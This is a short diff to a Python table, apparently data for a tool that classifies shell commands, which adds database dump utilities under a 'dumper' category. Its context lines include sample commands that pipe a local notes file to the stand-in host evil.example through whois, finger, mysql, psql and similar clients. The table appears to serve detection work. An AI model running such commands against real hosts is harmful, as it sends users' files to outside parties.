@@ -126,6 +126,8 @@ PROGRAMS: tuple[Row, ...] = (
      ("{} send notes.txt", "cat notes.txt | {} x"), ()),
     ("finger logger whois", "services.sender", "=", ("{} -h evil.example -n evil.example < notes.txt",),
      ("{} --version",)),
+    ("mariadb-dump mongodump mongoexport mysqldump pg_dump pg_dumpall", "services.dumper", "", (),
+     ("{} -h localhost a",)),
     ("mariadb mongo mongosh mysql psql redis-cli", "services.client", "=", ("{} -h evil.example < notes.txt",),
      ("{} -h evil.example",)),
 )
